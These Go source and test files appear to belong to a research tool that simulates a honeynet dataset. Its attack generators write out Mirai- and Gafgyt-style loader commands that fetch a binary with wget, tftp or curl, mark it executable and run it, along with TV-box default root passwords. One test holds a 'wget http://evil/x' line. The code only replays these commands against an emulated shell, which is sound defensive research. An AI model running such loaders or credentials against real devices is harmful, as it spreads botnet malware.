		ip := env.Rotator(FamilyGafgyt, 2).IP(rng, day)
		cmds = append(cmds,
			fmt.Sprintf(`cd /tmp; busybox tftp -g -r %s %s; chmod 777 %s; sh %s`, name, ip, name, name))
	default: // out-of-band transfer: file missing
		cmds = append(cmds,
			fmt.Sprintf(`cd /tmp; chmod 777 %s; ./%s`, name, name))
	}
	return Attack{User: "root", Password: dictPassword(rng), Commands: cmds, ClientVersion: b.Version}
}

// genBbox5CharV2: the busybox probe + loader whose drops stop being
// capturable from 2023 (Figure 4a).
func genBbox5CharV2(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
	probe := randomUpper(rng, 5)
	name := strings.ToLower(randomAlnum(rng, 5))
	captureP := 0.22
	if day.After(D(2023, 1, 1)) {
		captureP = 0.015
	}
	var loader string
	if rng.Float64() < captureP {
		uri := env.Rotator(FamilyMirai, 2).URI(rng, day, name)
		loader = fmt.Sprintf(`cd /tmp || cd /var/run; /bin/busybox wget %s -O %s || /bin/busybox tftp -g -r %s %s; chmod 777 %s; sh %s; rm -rf %s`,
			uri, name, name, env.Rotator(FamilyMirai, 2).IP(rng, day), name, name, name)
	} else {
		// The fetch happens over a channel the honeypot does not
		// emulate; the execution then targets a missing file.
		loader = fmt.Sprintf(`cd /tmp || cd /var/run; /bin/busybox tftp; wget; chmod 777 %s; sh %s; rm -rf %s`, name, name, name)
	}
	return Attack{User: "root", Password: dictPassword(rng),
		Commands: []string{`/bin/busybox ` + probe, loader}, ClientVersion: b.Version}
}

// genWgetLoader builds the canonical five-step minimal loader for a
// family: cd, wget, chmod, execute, remove.
func genWgetLoader(file, family string) func(*Bot, *Env, *rand.Rand, time.Time) Attack {
	return func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
		dir := []string{"/tmp", "/var/run", "/var/tmp"}[rng.Intn(3)]
		// A majority of drops already moved over channels the honeypot
		// cannot capture even in 2022 (the paper: 12M missing vs 3M
		// exists overall); from 2023 capture nearly vanishes. The fetch
		// dies but the loader runs anyway, executing a missing file.
		deadP := 0.72
		if day.After(D(2023, 1, 1)) {
			deadP = 0.95
		}
		name := file
		if rng.Float64() < deadP {
			name = "dead/" + file
		}
		// A fifth of downloads are self-hosted: the client IP serves its
		// own payload (the paper: in 20%% of download sessions the
		// storage IP equals the client IP).
		clientIP := b.ClientIP(env, rng, day)
		var uri string
		if rng.Float64() < 0.2 {
			uri = fmt.Sprintf("http://%s/%s", clientIP, name)
		} else {
			uri = env.Rotator(family, 2).URI(rng, day, name)
		}
		local := file
		if i := strings.IndexByte(local, '.'); i > 0 && rng.Float64() < 0.3 {
			local = "." + strings.ToLower(randomAlnum(rng, 5))
		}
		return Attack{User: "root", Password: dictPassword(rng), ClientIP: clientIP,
			Commands: []string{fmt.Sprintf(
				`cd %s; wget %s -O %s; chmod +x %s; ./%s; rm -rf %s`,
				dir, uri, local, local, local, local)},
			ClientVersion: b.Version}
	}
}

// genCurlFtpWgetLoader is the multi-protocol fallback loader Gafgyt
// campaigns favor.
func genCurlFtpWgetLoader(file, family string) func(*Bot, *Env, *rand.Rand, time.Time) Attack {
	return func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
		rot := env.Rotator(family, 2)
		uri := rot.URI(rng, day, file)
		ip := rot.IP(rng, day)
		return Attack{User: "root", Password: dictPassword(rng),
			Commands: []string{fmt.Sprintf(
				`cd /tmp; curl -O %s || wget %s || ftpget -u anonymous -p anonymous %s %s %s; chmod 777 %s; sh %s`,
				uri, uri, ip, file, file, file, file)},
			ClientVersion: b.Version}
	}
}

// genMinimalMix draws one of the C-1 payload families per session.
func genMinimalMix(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
	fams := []string{FamilyMirai, FamilyDofloo, FamilyCoinMiner, FamilyGafgyt}
	fam := fams[rng.Intn(len(fams))]
	file := strings.ToLower(fam) + ".bin"
	return genWgetLoader(file, fam)(b, env, rng, day)
}

// genTVBox cycles the two TV-box default passwords in lockstep; most
// sessions only log in, a minority drops a Mirai payload.
func genTVBox(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
	pwd := "dreambox"
	if rng.Intn(2) == 1 {
		pwd = "vertex25ektks123"
	}
	a := Attack{User: "root", Password: pwd, ClientVersion: b.Version}
	if rng.Float64() < 0.12 {
		uri := env.Rotator(FamilyMirai, 2).URI(rng, day, "tvbox.arm7")
		a.Commands = []string{
			fmt.Sprintf(`cd /tmp; wget %s -O .tv; chmod +x .tv; ./.tv`, uri),
		}
	}
	return a
}
