// Package simulate generates the synthetic 33-month honeynet dataset:
// it schedules every bot in the catalog over Dec 2021 – Aug 2024,
// realizes each attack against an in-process emulated honeypot shell,
// and streams the resulting session records to the collector. A scale
// factor divides the paper-scale volumes so a laptop regenerates the
// full window in seconds while every reported *ratio* is preserved.
package simulate

import (
	"fmt"
	"math/rand"
	"strings"
	"time"

	"honeynet/internal/abusedb"
	"honeynet/internal/asdb"
	"honeynet/internal/botnet"
	"honeynet/internal/collector"
	"honeynet/internal/obs"
	"honeynet/internal/parallel"
	"honeynet/internal/session"
	"honeynet/internal/shell"
	"honeynet/internal/vfs"
)

// Config parameterizes a simulation run.
type Config struct {
	// Scale divides the paper-scale session rates (default 1000: the
	// 546M-session window becomes ~546k sessions).
	Scale float64
	// Seed makes the run deterministic.
	Seed int64
	// Start and End bound the simulated window; zero values take the
	// paper's window.
	Start, End time.Time
	// Honeypots is the node count (default 221, as deployed).
	Honeypots int
	// Bots overrides the attacker population (default botnet.Catalog()).
	Bots []*botnet.Bot
	// Registry overrides the AS registry.
	Registry *asdb.Registry
	// AbuseDB overrides the abuse database.
	AbuseDB *abusedb.DB
	// SkipMaintenance disables the Oct 8–9 2023 honeynet outage.
	SkipMaintenance bool
	// Sink, if set, receives every record in addition to the store;
	// set Discard to skip storing (streaming mode).
	Sink    func(*session.Record)
	Discard bool
	// Workers caps the goroutines replaying attack scripts against the
	// emulated shell (<= 0 means runtime.NumCPU(), 1 is fully serial).
	// The generated dataset is identical for every value: all randomness
	// and shared mutable state (storage rotators, AS allocation, session
	// IDs, threat-intel feeds) stay on a serial path, and only the pure
	// per-session shell replay fans out.
	Workers int
	// Tracer, if set, records per-phase wall time (script vs replay vs
	// merge). Spans only observe the clock: the generated dataset is
	// identical with or without one.
	Tracer *obs.Tracer
}

func (c *Config) defaults() {
	if c.Scale <= 0 {
		c.Scale = 1000
	}
	if c.Start.IsZero() {
		c.Start = botnet.WindowStart
	}
	if c.End.IsZero() {
		c.End = botnet.WindowEnd
	}
	if c.Honeypots <= 0 {
		c.Honeypots = 221
	}
	if c.Bots == nil {
		c.Bots = botnet.Catalog()
	}
	if c.Registry == nil {
		c.Registry = asdb.NewRegistry(c.Seed+1, 2000)
	}
	if c.AbuseDB == nil {
		c.AbuseDB = abusedb.New()
		// Synthetic feeds label explicitly; disable the probabilistic
		// fallback so family labels always match the dropping bot.
		c.AbuseDB.LabelFraction = 0
	}
}

// maintenanceStart/End: the 48h window with no recorded sessions
// (section 3.3).
var (
	maintenanceStart = botnet.D(2023, 10, 8)
	maintenanceEnd   = botnet.D(2023, 10, 10)
)

// Result bundles the simulated world.
type Result struct {
	Store    *collector.Store
	Registry *asdb.Registry
	AbuseDB  *abusedb.DB
	Env      *botnet.Env
	// Sessions is the total generated count (equals Store.Len() unless
	// Discard).
	Sessions int
}

// pending is a scripted session awaiting its shell replay: the record
// has every random draw realized, and commands holds the attack script
// to execute (empty when the session never reaches a shell).
type pending struct {
	bot      *botnet.Bot
	rec      *session.Record
	commands []string
}

// flushBatch is how many scripted sessions accumulate before a replay
// flush. It is a fixed constant — independent of the worker count — so
// batch boundaries (and therefore every downstream interleaving) are the
// same for every Workers setting.
const flushBatch = 4096

// Run executes the simulation in three repeating stages:
//
//  1. Script (serial): walk days in order and bots in catalog order,
//     drawing every random value — session counts, start times, logins,
//     client IPs, attack commands — from per-bot PRNG streams
//     (cfg.Seed ^ botIndex). Storage rotators and lazy AS allocation are
//     shared mutable state consumed here, in one canonical order.
//  2. Replay (parallel): execute each scripted attack against a fresh
//     emulated shell. Replay is a pure function of the command list —
//     each session gets its own shell and filesystem — so sessions fan
//     out across cfg.Workers goroutines freely.
//  3. Merge (serial): assign session IDs, store/sink records, and
//     register threat-intel feeds in scripted order.
//
// Stages 2+3 run per fixed-size batch. The output is byte-identical for
// every worker count by construction: nothing order-dependent ever runs
// concurrently.
func Run(cfg Config) (*Result, error) {
	cfg.defaults()
	if !cfg.Start.Before(cfg.End) {
		return nil, fmt.Errorf("simulate: empty window %v..%v", cfg.Start, cfg.End)
	}
	env := botnet.NewEnv(cfg.Registry)
	env.Scale = cfg.Scale
	store := collector.NewStore()
	res := &Result{Store: store, Registry: cfg.Registry, AbuseDB: cfg.AbuseDB, Env: env}
	workers := parallel.Workers(cfg.Workers)

	// One deterministic PRNG stream per bot: bot i's draws depend only on
	// (seed, i) and its own consumption order, never on other bots.
	rngs := make([]*rand.Rand, len(cfg.Bots))
	for i := range rngs {
		rngs[i] = rand.New(rand.NewSource(cfg.Seed ^ int64(i)))
	}
	var nextID uint64

	emit := func(r *session.Record) {
		nextID++
		r.ID = nextID
		if !cfg.Discard {
			store.Add(r)
		}
		if cfg.Sink != nil {
			cfg.Sink(r)
		}
		res.Sessions++
	}

	fetch := Fetcher()

	batch := make([]pending, 0, flushBatch)
	flush := func() {
		sp := cfg.Tracer.Span("simulate.replay")
		parallel.ForEach(len(batch), workers, 8, func(_, lo, hi int) {
			for x := lo; x < hi; x++ {
				if len(batch[x].commands) > 0 {
					replay(batch[x].rec, batch[x].commands, fetch)
				}
			}
		})
		sp.End()
		sp = cfg.Tracer.Span("simulate.merge")
		for x := range batch {
			emit(batch[x].rec)
			if len(batch[x].commands) > 0 {
				registerThreatIntel(cfg.AbuseDB, batch[x].bot, batch[x].rec)
			}
		}
		sp.End()
		batch = batch[:0]
	}

	total := cfg.Tracer.Span("simulate")
	defer total.End()
	for day := cfg.Start; day.Before(cfg.End); day = day.AddDate(0, 0, 1) {
		if !cfg.SkipMaintenance && !day.Before(maintenanceStart) && day.Before(maintenanceEnd) {
			continue // honeynet-wide outage: no sessions recorded
		}
		for bi, bot := range cfg.Bots {
			rate := botnet.EffectiveRate(bot, day) / cfg.Scale
			if rate <= 0 {
				continue
			}
			rng := rngs[bi]
			n := sampleCount(rng, botnet.Noisy(rate, 0.25, rng))
			for i := 0; i < n; i++ {
				batch = append(batch, script(bot, env, cfg, rng, day))
				if len(batch) == flushBatch {
					flush()
				}
			}
		}
	}
	flush()
	return res, nil
}

// sampleCount draws an integer session count with the fractional part
// realized probabilistically, so low-rate bots still appear.
func sampleCount(rng *rand.Rand, expected float64) int {
	n := int(expected)
	if rng.Float64() < expected-float64(n) {
		n++
	}
	return n
}

// Fetcher returns the deterministic download content generator: payload
// bytes derive from the URI alone, so a URI always hashes identically,
// and URIs under a /dead/ path simulate unreachable droppers.
func Fetcher() shell.DownloadFunc {
	return func(uri string) ([]byte, error) {
		if strings.Contains(uri, "/dead/") {
			return nil, fmt.Errorf("connect: no route to host")
		}
		return []byte("\x7fELF\x02\x01\x01\x00payload:" + uri), nil
	}
}

// script turns one attack into a fully-randomized session record plus
// the command list awaiting shell replay. Every rng draw happens here —
// nothing in the replay stage touches the stream — so the scripted
// record is independent of how the replay is later scheduled.
func script(bot *botnet.Bot, env *botnet.Env, cfg Config, rng *rand.Rand, day time.Time) pending {
	atk := bot.Gen(bot, env, rng, day)
	start := day.Add(time.Duration(rng.Int63n(int64(24 * time.Hour))))
	hp := rng.Intn(cfg.Honeypots)
	proto := session.ProtoSSH
	if atk.Telnet {
		proto = session.ProtoTelnet
	}
	rec := &session.Record{
		Start:         start,
		HoneypotID:    fmt.Sprintf("hp-%03d", hp+1),
		HoneypotIP:    fmt.Sprintf("198.18.%d.%d", hp/200, hp%200+1),
		ClientPort:    1024 + rng.Intn(60000),
		Protocol:      proto,
		ClientVersion: atk.ClientVersion,
	}
	if atk.NoLogin {
		rec.ClientIP = bot.ClientIP(env, rng, day)
		rec.End = rec.Start.Add(time.Duration(rng.Intn(3000)) * time.Millisecond)
		return pending{bot: bot, rec: rec}
	}
	if atk.ClientIP != "" {
		rec.ClientIP = atk.ClientIP
	} else {
		rec.ClientIP = bot.ClientIP(env, rng, day)
	}
	for _, f := range atk.PreFailed {
		rec.Logins = append(rec.Logins, session.LoginAttempt{Username: f[0], Password: f[1]})
	}
	ok := !atk.FinalFails
	rec.Logins = append(rec.Logins, session.LoginAttempt{
		Username: atk.User, Password: atk.Password, Success: ok,
	})
	dur := time.Duration(1+rng.Intn(20)) * time.Second
	p := pending{bot: bot, rec: rec}
	if ok && len(atk.Commands) > 0 {
		p.commands = atk.Commands
		dur += time.Duration(len(atk.Commands)) * time.Second
	}
	rec.End = rec.Start.Add(dur)
	return p
}

// replay executes a scripted attack against a fresh emulated shell and
// fills in the execution-derived record fields. It is a pure function of
// the command list: each call gets its own shell and filesystem, and the
// fetcher derives content from the URI alone, so replays can run
// concurrently in any order.
func replay(rec *session.Record, commands []string, fetch shell.DownloadFunc) {
	sh := shell.New("svr04", fetch)
	for _, cmd := range commands {
		sh.Run(cmd)
		if sh.Exited() {
			break
		}
	}
	rec.Commands = sh.Commands()
	rec.Downloads = sh.Downloads()
	rec.ExecAttempts = sh.ExecAttempts()
	rec.StateChanged = sh.StateChanged()
	rec.DroppedHashes = sh.DroppedHashes()
}

// registerThreatIntel populates the synthetic abuse feeds the way the
// real world populates abuse.ch/VirusTotal: a sparse (~5%) deterministic
// subset of dropped hashes gets a family label, and just over half of
// storage IPs end up reported.
func registerThreatIntel(db *abusedb.DB, bot *botnet.Bot, rec *session.Record) {
	if db == nil {
		return
	}
	for _, h := range rec.DroppedHashes {
		if bot.Family == "" {
			continue
		}
		if stableFrac(h) < 0.05 {
			db.AddHash(h, bot.Family)
		}
	}
	for _, d := range rec.Downloads {
		if d.SourceIP != "" && stableFrac(d.SourceIP) < 0.56 {
			db.ReportIP(d.SourceIP)
		}
	}
	// The installed mdrfckr key file has a constant content hash, which
	// abuse feeds label CoinMiner (section 9). Only that hash is labeled
	// — the incidental /etc/shadow rewrites hash uniquely per session
	// and stay unknown, like any unreported file.
	if bot.Name == "mdrfckr" || bot.Name == "mdrfckr_variant" {
		for _, h := range rec.DroppedHashes {
			if h == mdrfckrKeyFileHash {
				db.AddHash(h, abusedb.LabelCoinMiner)
			}
		}
	}
}

// mdrfckrKeyFileHash is the content hash of the authorized_keys file the
// campaign writes (the key line plus the trailing newline echo adds).
var mdrfckrKeyFileHash = vfs.HashBytes([]byte(botnet.MdrfckrKey + "\n"))

// stableFrac maps a string to a deterministic fraction in [0,1).
func stableFrac(s string) float64 {
	var h uint64 = 1469598103934665603
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 1099511628211
	}
	return float64(h%100000) / 100000
}
