package simulate

import (
	"reflect"
	"testing"
	"time"

	"honeynet/internal/botnet"
	"honeynet/internal/session"
)

// smallRun simulates a few months at a coarse scale for fast tests.
func smallRun(t *testing.T, months int, scale float64, seed int64) *Result {
	t.Helper()
	res, err := Run(Config{
		Scale: scale,
		Seed:  seed,
		End:   botnet.WindowStart.AddDate(0, months, 0),
	})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestSessionMixMatchesPaper(t *testing.T) {
	res, err := Run(Config{Scale: 5000, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	st := res.Store.Stats()
	if st.Total < 50_000 {
		t.Fatalf("total = %d, too small to judge", st.Total)
	}
	frac := func(k session.Kind) float64 {
		return float64(st.ByKind[k]) / float64(st.Total)
	}
	// Paper: scanning 45M, scouting 258M, intrusion 80M, cmdexec 163M of
	// 546M.
	checks := []struct {
		kind     session.Kind
		lo, hi   float64
		paperVal float64
	}{
		{session.Scanning, 0.05, 0.12, 0.082},
		{session.Scouting, 0.38, 0.55, 0.472},
		{session.Intrusion, 0.10, 0.20, 0.147},
		{session.CommandExec, 0.24, 0.40, 0.299},
	}
	for _, c := range checks {
		if f := frac(c.kind); f < c.lo || f > c.hi {
			t.Errorf("%v share = %.3f, want near %.3f", c.kind, f, c.paperVal)
		}
	}
}

func TestDeterministicGivenSeed(t *testing.T) {
	a := smallRun(t, 2, 5000, 42)
	b := smallRun(t, 2, 5000, 42)
	if a.Sessions != b.Sessions {
		t.Fatalf("session counts differ: %d vs %d", a.Sessions, b.Sessions)
	}
	ra, rb := a.Store.All(), b.Store.All()
	for i := range ra {
		if ra[i].ClientIP != rb[i].ClientIP || ra[i].CommandText() != rb[i].CommandText() {
			t.Fatalf("record %d differs", i)
		}
	}
}

// TestWorkerInvariance: the generated dataset must be identical — every
// field of every record, in order — for any worker count, and the
// threat-intel side effects must match too.
func TestWorkerInvariance(t *testing.T) {
	run := func(workers int) *Result {
		t.Helper()
		res, err := Run(Config{
			Scale:   3000,
			Seed:    42,
			End:     botnet.WindowStart.AddDate(0, 3, 0),
			Workers: workers,
		})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	ref := run(1)
	for _, workers := range []int{2, 8} {
		got := run(workers)
		if got.Sessions != ref.Sessions {
			t.Fatalf("workers=%d: %d sessions, want %d", workers, got.Sessions, ref.Sessions)
		}
		ra, rb := ref.Store.All(), got.Store.All()
		for i := range ra {
			if !reflect.DeepEqual(ra[i], rb[i]) {
				t.Fatalf("workers=%d: record %d differs:\n  serial:   %+v\n  parallel: %+v",
					workers, i, ra[i], rb[i])
			}
		}
		// Threat-intel registration happens in the serial merge, so the
		// abuse DB must end up identical as well.
		for _, r := range ra {
			for _, h := range r.DroppedHashes {
				la, oka := ref.AbuseDB.LookupHash(h)
				lb, okb := got.AbuseDB.LookupHash(h)
				if oka != okb || la != lb {
					t.Fatalf("workers=%d: hash %q label (%q,%v) vs (%q,%v)", workers, h, la, oka, lb, okb)
				}
			}
			for _, d := range r.Downloads {
				if d.SourceIP != "" && ref.AbuseDB.IPReported(d.SourceIP) != got.AbuseDB.IPReported(d.SourceIP) {
					t.Fatalf("workers=%d: IP %q report status differs", workers, d.SourceIP)
				}
			}
		}
	}
}

func TestDifferentSeedsDiffer(t *testing.T) {
	a := smallRun(t, 1, 5000, 1)
	b := smallRun(t, 1, 5000, 2)
	if a.Sessions == b.Sessions {
		// Counts may coincide; compare content.
		same := true
		ra, rb := a.Store.All(), b.Store.All()
		for i := 0; i < len(ra) && i < len(rb); i++ {
			if ra[i].ClientIP != rb[i].ClientIP {
				same = false
				break
			}
		}
		if same {
			t.Error("different seeds produced identical traces")
		}
	}
}

func TestMaintenanceOutage(t *testing.T) {
	res, err := Run(Config{
		Scale: 2000,
		Seed:  3,
		Start: botnet.D(2023, 10, 1),
		End:   botnet.D(2023, 10, 20),
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range res.Store.All() {
		d := r.Start.UTC()
		if d.Year() == 2023 && d.Month() == 10 && (d.Day() == 8 || d.Day() == 9) {
			t.Fatalf("session recorded during the Oct 8-9 2023 outage: %v", d)
		}
	}
	// The surrounding days must have sessions.
	seen7, seen10 := false, false
	for _, r := range res.Store.All() {
		switch r.Start.UTC().Day() {
		case 7:
			seen7 = true
		case 10:
			seen10 = true
		}
	}
	if !seen7 || !seen10 {
		t.Error("days around the outage should have sessions")
	}
}

func TestSkipMaintenanceFlag(t *testing.T) {
	res, err := Run(Config{
		Scale: 500, Seed: 3, SkipMaintenance: true,
		Start: botnet.D(2023, 10, 8),
		End:   botnet.D(2023, 10, 10),
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Sessions == 0 {
		t.Error("SkipMaintenance should allow sessions in the window")
	}
}

func TestStreamingSinkAndDiscard(t *testing.T) {
	n := 0
	res, err := Run(Config{
		Scale: 5000, Seed: 4,
		End:     botnet.WindowStart.AddDate(0, 1, 0),
		Discard: true,
		Sink:    func(r *session.Record) { n++ },
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Store.Len() != 0 {
		t.Errorf("Discard run stored %d records", res.Store.Len())
	}
	if n == 0 || n != res.Sessions {
		t.Errorf("sink saw %d, result says %d", n, res.Sessions)
	}
}

func TestRecordsAreWellFormed(t *testing.T) {
	res := smallRun(t, 2, 2000, 5)
	ids := map[uint64]bool{}
	for _, r := range res.Store.All() {
		if r.ID == 0 || ids[r.ID] {
			t.Fatalf("bad or duplicate ID %d", r.ID)
		}
		ids[r.ID] = true
		if r.ClientIP == "" && r.Kind() != session.Scanning {
			t.Errorf("record %d missing client IP", r.ID)
		}
		if r.HoneypotID == "" {
			t.Errorf("record %d missing honeypot", r.ID)
		}
		if !r.End.After(r.Start) && r.Kind() != session.Scanning {
			t.Errorf("record %d has end %v <= start %v", r.ID, r.End, r.Start)
		}
		if r.Start.Before(botnet.WindowStart) {
			t.Errorf("record %d before window", r.ID)
		}
		// CommandExec sessions must carry command text; downloads carry
		// source IPs inside the registry space.
		if r.Kind() == session.CommandExec && r.CommandText() == "" {
			t.Errorf("record %d: cmdexec without commands", r.ID)
		}
		for _, d := range r.Downloads {
			if d.URI == "" {
				t.Errorf("record %d: download without URI", r.ID)
			}
		}
	}
}

func TestFetcherSemantics(t *testing.T) {
	f := Fetcher()
	content, err := f("http://10.0.0.1/bins.sh?v=1-0")
	if err != nil || len(content) == 0 {
		t.Fatalf("fetch: %v", err)
	}
	// Deterministic per URI.
	again, _ := f("http://10.0.0.1/bins.sh?v=1-0")
	if string(content) != string(again) {
		t.Error("fetch not deterministic")
	}
	other, _ := f("http://10.0.0.1/bins.sh?v=2-0")
	if string(content) == string(other) {
		t.Error("different URIs must yield different payloads")
	}
	if _, err := f("http://10.0.0.1/dead/bins.sh"); err == nil {
		t.Error("dead path must fail")
	}
}

func TestEmptyWindowRejected(t *testing.T) {
	_, err := Run(Config{Start: botnet.D(2022, 2, 1), End: botnet.D(2022, 1, 1)})
	if err == nil {
		t.Error("inverted window must fail")
	}
}

func TestHoneypotSpread(t *testing.T) {
	res := smallRun(t, 2, 2000, 6)
	hps := map[string]bool{}
	for _, r := range res.Store.All() {
		hps[r.HoneypotID] = true
	}
	if len(hps) < 200 {
		t.Errorf("sessions spread over %d honeypots, want ~221", len(hps))
	}
}

func TestTimeOrderWithinDayGranularity(t *testing.T) {
	res := smallRun(t, 1, 5000, 7)
	// Sessions of a given bot day are uniformly spread within the day.
	var hours [24]int
	for _, r := range res.Store.All() {
		hours[r.Start.Hour()]++
	}
	zero := 0
	for _, h := range hours {
		if h == 0 {
			zero++
		}
	}
	if zero > 2 {
		t.Errorf("hours with no sessions: %d — timestamps not spread", zero)
	}
	_ = time.Hour
}
