package vfs

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"strings"
	"testing"
	"testing/quick"
)

func TestSeededLayout(t *testing.T) {
	fs := New()
	for _, p := range []string{"/", "/etc", "/tmp", "/root", "/proc/cpuinfo", "/etc/passwd", "/bin/busybox"} {
		if !fs.Exists(p) {
			t.Errorf("%s should exist in the seeded layout", p)
		}
	}
	if fs.Changed() {
		t.Error("seeding must not count as attacker change")
	}
	if fs.Cwd() != "/root" {
		t.Errorf("cwd = %q", fs.Cwd())
	}
	content, err := fs.ReadFile("/etc/passwd")
	if err != nil || !strings.Contains(string(content), "root:x:0:0") {
		t.Errorf("passwd content: %q, %v", content, err)
	}
}

func TestAbsResolution(t *testing.T) {
	fs := New()
	cases := map[string]string{
		"":            "/root",
		"~":           "/root",
		"~/.ssh":      "/root/.ssh",
		"/tmp/../etc": "/etc",
		"x":           "/root/x",
		"./y":         "/root/y",
		"/a//b/./c":   "/a/b/c",
	}
	for in, want := range cases {
		if got := fs.Abs(in); got != want {
			t.Errorf("Abs(%q) = %q, want %q", in, got, want)
		}
	}
	if err := fs.Chdir("/tmp"); err != nil {
		t.Fatal(err)
	}
	if got := fs.Abs("z"); got != "/tmp/z" {
		t.Errorf("relative after chdir: %q", got)
	}
}

func TestChdirErrors(t *testing.T) {
	fs := New()
	if err := fs.Chdir("/nonexistent"); !errors.Is(err, ErrNotExist) {
		t.Errorf("err = %v", err)
	}
	if err := fs.Chdir("/etc/passwd"); !errors.Is(err, ErrNotDir) {
		t.Errorf("err = %v", err)
	}
}

func TestWriteReadAndHash(t *testing.T) {
	fs := New()
	content := []byte("#!/bin/sh\nwget http://evil/x\n")
	if err := fs.WriteFile("/tmp/bins.sh", content); err != nil {
		t.Fatal(err)
	}
	got, err := fs.ReadFile("/tmp/bins.sh")
	if err != nil || string(got) != string(content) {
		t.Fatalf("read back: %q, %v", got, err)
	}
	wantHash := sha256.Sum256(content)
	h, ok := fs.HashOf("/tmp/bins.sh")
	if !ok || h != hex.EncodeToString(wantHash[:]) {
		t.Errorf("hash = %q ok=%v", h, ok)
	}
	if !fs.Changed() {
		t.Error("write must mark change")
	}
	hashes := fs.DroppedHashes()
	if len(hashes) != 1 || hashes[0] != h {
		t.Errorf("dropped = %v", hashes)
	}
}

func TestAppendFile(t *testing.T) {
	fs := New()
	if err := fs.AppendFile("/root/.ssh/authorized_keys", []byte("key1\n")); err != nil {
		t.Fatal(err)
	}
	if err := fs.AppendFile("/root/.ssh/authorized_keys", []byte("key2\n")); err != nil {
		t.Fatal(err)
	}
	content, _ := fs.ReadFile("/root/.ssh/authorized_keys")
	if string(content) != "key1\nkey2\n" {
		t.Errorf("content = %q", content)
	}
	// Two different contents -> two distinct dropped hashes.
	if n := len(fs.DroppedHashes()); n != 2 {
		t.Errorf("dropped hashes = %d, want 2", n)
	}
}

func TestMkdirSemantics(t *testing.T) {
	fs := New()
	if err := fs.Mkdir("/tmp/a"); err != nil {
		t.Fatal(err)
	}
	if err := fs.Mkdir("/tmp/a"); !errors.Is(err, ErrExist) {
		t.Errorf("duplicate mkdir: %v", err)
	}
	if err := fs.Mkdir("/no/such/parent"); err == nil {
		t.Error("mkdir without parent must fail")
	}
	if err := fs.MkdirAll("/deep/nested/dir"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/deep/nested/dir") {
		t.Error("MkdirAll failed")
	}
	if err := fs.MkdirAll("/etc/passwd"); !errors.Is(err, ErrNotDir) {
		t.Errorf("MkdirAll over file: %v", err)
	}
}

func TestRemove(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/x", []byte("1"))
	if err := fs.Remove("/tmp/x", false); err != nil {
		t.Fatal(err)
	}
	if fs.Exists("/tmp/x") {
		t.Error("file survived removal")
	}
	if err := fs.Remove("/tmp/x", false); !errors.Is(err, ErrNotExist) {
		t.Errorf("double remove: %v", err)
	}
	// Non-empty dir requires recursive.
	fs.MkdirAll("/tmp/d")
	fs.WriteFile("/tmp/d/f", []byte("1"))
	if err := fs.Remove("/tmp/d", false); err == nil {
		t.Error("non-recursive removal of non-empty dir must fail")
	}
	if err := fs.Remove("/tmp/d", true); err != nil {
		t.Fatal(err)
	}
	if err := fs.Remove("/", true); !errors.Is(err, ErrPermission) {
		t.Errorf("removing / must be denied: %v", err)
	}
}

func TestRename(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/a", []byte("data"))
	if err := fs.Rename("/tmp/a", "/tmp/b"); err != nil {
		t.Fatal(err)
	}
	if fs.Exists("/tmp/a") || !fs.Exists("/tmp/b") {
		t.Error("rename failed")
	}
	// Moving into a directory keeps the base name.
	fs.MkdirAll("/tmp/dir")
	if err := fs.Rename("/tmp/b", "/tmp/dir"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/tmp/dir/b") {
		t.Error("rename into dir failed")
	}
	if err := fs.Rename("/tmp/nope", "/tmp/x"); !errors.Is(err, ErrNotExist) {
		t.Errorf("rename missing: %v", err)
	}
}

func TestListSorted(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/c", nil)
	fs.WriteFile("/tmp/a", nil)
	fs.WriteFile("/tmp/b", nil)
	nodes, err := fs.List("/tmp")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, n := range nodes {
		names = append(names, n.Name)
	}
	for i := 1; i < len(names); i++ {
		if names[i-1] > names[i] {
			t.Errorf("unsorted listing: %v", names)
		}
	}
	// Listing a file returns the file itself.
	nodes, err = fs.List("/etc/passwd")
	if err != nil || len(nodes) != 1 || nodes[0].Name != "passwd" {
		t.Errorf("List(file) = %v, %v", nodes, err)
	}
}

func TestChangeLogKinds(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/f", []byte("1")) // create
	fs.WriteFile("/tmp/f", []byte("2")) // modify
	fs.Chmod("/tmp/f", 0o777)           // chmod
	fs.Remove("/tmp/f", false)          // delete
	kinds := []ChangeKind{}
	for _, c := range fs.Changes() {
		kinds = append(kinds, c.Kind)
	}
	want := []ChangeKind{ChangeCreate, ChangeModify, ChangeChmod, ChangeDelete}
	if len(kinds) != len(want) {
		t.Fatalf("changes = %v", kinds)
	}
	for i := range want {
		if kinds[i] != want[i] {
			t.Errorf("change %d = %v, want %v", i, kinds[i], want[i])
		}
	}
	for _, k := range want {
		if k.String() == "unknown" {
			t.Errorf("kind %d has no name", k)
		}
	}
}

func TestDroppedHashesDeduplicated(t *testing.T) {
	fs := New()
	fs.WriteFile("/tmp/a", []byte("same"))
	fs.WriteFile("/tmp/b", []byte("same"))
	fs.WriteFile("/tmp/c", []byte("different"))
	if n := len(fs.DroppedHashes()); n != 2 {
		t.Errorf("dropped hashes = %d, want 2 (content-deduplicated)", n)
	}
}

func TestHashBytesMatchesWriteHash(t *testing.T) {
	f := func(data []byte) bool {
		fs := New()
		if err := fs.WriteFile("/tmp/q", data); err != nil {
			return false
		}
		h, ok := fs.HashOf("/tmp/q")
		return ok && h == HashBytes(data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func TestWriteFileOntoDirectoryFails(t *testing.T) {
	fs := New()
